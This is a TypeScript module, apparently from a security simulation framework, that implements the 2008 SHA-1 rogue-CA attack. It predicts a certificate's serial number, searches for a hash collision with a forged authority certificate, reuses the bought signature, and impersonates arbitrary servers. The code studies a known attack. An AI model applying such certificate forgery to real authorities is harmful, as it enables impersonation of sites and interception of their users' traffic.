import { type Bytes, hex, utf8 } from "../bytes/mod.ts";
import { generateEcKey, type PublicKey } from "../crypto/mod.ts";
import {
  actingAuthority,
  assembleCertificate,
  type Certificate,
  distinguishedName,
  encodeTbs,
  type Extension,
  extension,
  keyIdentifierOf,
  makeExtension,
  parseCertificate,
  subjectPublicKeyInfoOf,
} from "../pki/mod.ts";
import { type Changeable, type Collision, findCollision } from "./birthday.ts";
import { impersonate } from "./impersonate.ts";
import type { Attack, Position } from "./position.ts";
import { SHA1_BLOCK } from "./sha1_last_block.ts";

/** What stands where the digits will be changed. */
const DIGITS = "00000000";
const YEAR = 365 * 86_400;

/** Buys a certificate, as any customer can. @param names the first is the subject's, too */
export type Order = (names: readonly string[], key: PublicKey) => Bytes;

/** An authority made out of an ordinary order, with what it took. */
export interface CollidedAuthority {
  /** Finds the two certificates, and orders the harmless one. */
  readonly prepare: Attack;
  /** Impersonates everybody, as the authority that the other one makes her. */
  readonly attack: Attack;
  /** The two, as they are signed; `undefined` before, and if none were found. */
  readonly found: Collision | undefined;
}

/**
 * Has an authority sign a harmless certificate whose hash is also that of another one, which makes
 * its owner an authority (Sotirov et al., 2008). The harmless one has to be foreseen to the byte.
 *
 * @param order at an authority that still signs with SHA-1
 * @param domain of hers, for which she may order what she likes
 * @param bits how much of the hash counts
 */
export function collideCertificates(
  order: Order,
  domain: string,
  bits: number,
): CollidedAuthority {
  let found: Collision | undefined;
  let made: ReturnType<typeof actingAuthority> | undefined;
  return {
    prepare(mallory) {
      const { name, crypto, ambient: { random, now } } = mallory;
      const key = generateEcKey(crypto, "P-256", random, "key of an authority");
      const customer = generateEcKey(crypto, "P-256", random, "key of a customer").publicKey;
      const sample = read(order([`www.${domain}`], customer));
      mallory.note(
        `${name} has bought certificate ${hex(sample.serialNumber)}, and expects the next number`,
      );
      const harmless = lastBlockOf((filler) => foreseen(sample, `${filler}.${domain}`));
      const other = lastBlockOf((filler) => authorityLike(sample, filler, key.publicKey, mallory));
      found = findCollision(harmless, other, bits);
      if (found === undefined) return void mallory.note(`${name} finds no collision`);
      mallory.tally({ hashes: found.hashes });
      const names = namesIn(found.first, sample);
      const bought = read(order(names, customer));
      const same = hex(bought.tbs) === hex(found.first);
      mallory.note(
        same
          ? `The authority has signed, to the byte, what ${name} had foreseen`
          : `The authority has signed something else: the serial number is ${
            hex(bought.serialNumber)
          }`,
      );
      const forged = assembleCertificate(found.second, sample.signatureAlgorithm, bought.signature);
      made = actingAuthority({ chain: [forged], key }, { provider: crypto, random, clock: now });
    },
    attack(mallory) {
      if (made === undefined) return;
      const authority = made;
      impersonate((serverName = domain) => authority.issue({ names: [serverName] }))(mallory);
    },
    get found() {
      return found;
    },
  };
}

function read(der: Bytes): Certificate {
  const certificate = parseCertificate(der);
  if (!certificate.ok) throw new Error(`Cannot read what was ordered: ${certificate.error}`);
  return certificate.value;
}

/** The next certificate of the same customer, as the authority will write it. */
function foreseen(sample: Certificate, second: string): Bytes {
  const serialNumber = sample.serialNumber.slice();
  for (let i = serialNumber.length - 1; i >= 0 && ++serialNumber[i]! === 0x100; i--);
  const [first] = dnsNamesOf(sample);
  return tbsOf(sample, {
    serialNumber,
    extensions: [
      ...sample.extensions.filter(({ name }) => name !== "subjectAltName"),
      makeExtension("subjectAltName", [
        { type: "dNSName", value: first! },
        { type: "dNSName", value: second },
      ]),
    ],
  });
}

/** A certificate of an authority; its key identifier, which may be anything, is what is changed. */
function authorityLike(
  sample: Certificate,
  filler: string,
  key: PublicKey,
  { crypto }: Position,
): Bytes {
  const issuerKey = extension(sample, "authorityKeyIdentifier")!.value;
  return tbsOf(sample, {
    subject: distinguishedName(["commonName", "Rogue Issuing"]),
    subjectPublicKeyInfo: subjectPublicKeyInfoOf(key),
    serialNumber: keyIdentifierOf(key, crypto).map((byte, i) =>
      i === 0 ? byte & 0x3f | 0x40 : byte
    ),
    validity: { ...sample.validity, notAfter: sample.validity.notAfter + YEAR },
    extensions: [
      makeExtension("basicConstraints", { cA: true, pathLenConstraint: undefined }, true),
      makeExtension("keyUsage", ["keyCertSign", "cRLSign"], true),
      makeExtension("authorityKeyIdentifier", issuerKey),
      makeExtension("subjectKeyIdentifier", utf8(filler)),
    ],
  });
}

interface Changes {
  readonly serialNumber: Bytes;
  readonly extensions: readonly Extension[];
  readonly subject?: Certificate["subject"];
  readonly subjectPublicKeyInfo?: ReturnType<typeof subjectPublicKeyInfoOf>;
  readonly validity?: Certificate["validity"];
}

/** What would be signed if the sample said this instead. */
function tbsOf(sample: Certificate, changes: Changes): Bytes {
  const { innerAlgorithm, issuer, subject, validity, publicKey } = sample;
  return encodeTbs({
    version: 2,
    signature: innerAlgorithm,
    issuer,
    validity,
    subject,
    subjectPublicKeyInfo: subjectPublicKeyInfoOf(publicKey!),
    issuerUniqueID: undefined,
    subjectUniqueID: undefined,
    ...changes,
  });
}

/** Fills a text up until its digits are whole words of the last block of the hash. */
function lastBlockOf(textWith: (filler: string) => Bytes): Changeable {
  for (let length = 0; length < SHA1_BLOCK; length++) {
    const text = textWith(`${"x".repeat(length)}${DIGITS}`);
    const at = hex(text).lastIndexOf(hex(utf8(DIGITS))) / 2;
    const inLast = text.length - text.length % SHA1_BLOCK <= at;
    if (inLast && at % 4 === 0 && text.length % SHA1_BLOCK <= SHA1_BLOCK - 9) return { text, at };
  }
  throw new Error("Cannot bring the digits into the last block, whatever the length");
}

/** The names that a foreseen certificate is for: to order exactly those. */
function namesIn(tbs: Bytes, { signatureAlgorithm, signature }: Certificate): readonly string[] {
  return dnsNamesOf(read(assembleCertificate(tbs, signatureAlgorithm, signature)));
}

function dnsNamesOf(certificate: Certificate): readonly string[] {
  const names = extension(certificate, "subjectAltName")?.value ?? [];
  return names.flatMap((one) => one.type === "dNSName" ? [one.value] : []);
}
